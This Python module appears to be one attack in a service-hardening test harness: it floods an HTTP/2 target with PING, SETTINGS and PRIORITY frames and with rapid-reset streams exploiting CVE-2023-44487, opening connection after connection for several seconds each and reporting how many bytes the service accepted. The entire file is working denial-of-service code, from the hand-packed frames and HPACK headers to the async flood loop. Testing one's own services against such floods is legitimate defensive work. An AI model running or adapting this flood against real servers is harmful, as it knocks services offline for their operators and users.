"""Four kinds of useless HTTP/2 frames, sent as fast as the service reads them."""

import asyncio
import struct
import time
from collections.abc import Callable

from attacks.target import Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SECONDS_EACH = 5.0
BYTES_PER_SECOND = 1_600_000
"""Frames that used to freeze a worker for seconds."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def resets(first: int, count: int) -> bytes:
    """Return requests that are reset at once (CVE-2023-44487)."""
    # :method GET, :scheme http, :path /, :authority x, from the static table of HPACK.
    headers = b"\x82\x86\x84\x41\x01x"
    numbers = range(first, first + 2 * count, 2)
    return b"".join(
        frame(1, 0x5, number, headers) + frame(3, 0, number, struct.pack(">I", 8))
        for number in numbers
    )


FLOODS: dict[str, Callable[[int], bytes]] = {
    "PING": lambda _: frame(6, 0, 0, b"12345678") * 1000,
    "SETTINGS": lambda _: frame(4, 0, 0) * 1000,
    "PRIORITY": lambda _: frame(2, 0, 1, struct.pack(">IB", 3, 1)) * 1000,
    "rapid reset": lambda turn: resets(1 + turn * 1000, 500),
}


async def attack(target: Target) -> str:
    """Flood one connection after the other, and count the bytes that the service accepted."""
    seen = []
    for name, flood in FLOODS.items():
        end = time.monotonic() + SECONDS_EACH
        taken = connections = 0
        while time.monotonic() < end:
            connections += 1
            taken += await _flood(target, flood, end)
        seen.append(f"{name} {taken / 1e6:.1f} MB over {connections} connections")
    return ", ".join(seen)


async def _flood(target: Target, flood: Callable[[int], bytes], end: float) -> int:
    reader, writer = await asyncio.open_connection(target.host, target.port)
    taken = turn = 0

    async def read() -> None:
        while await reader.read(65536):
            pass

    reading = asyncio.create_task(read())
    try:
        writer.write(PREFACE + frame(4, 0, 0))
        while time.monotonic() < end and not reading.done():
            data = flood(turn)
            writer.write(data)
            await writer.drain()
            taken += len(data)
            turn += 1
            await asyncio.sleep(len(data) / BYTES_PER_SECOND)
    except OSError:
        pass
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)
        writer.transport.abort()
        await asyncio.sleep(0.01)
    return taken
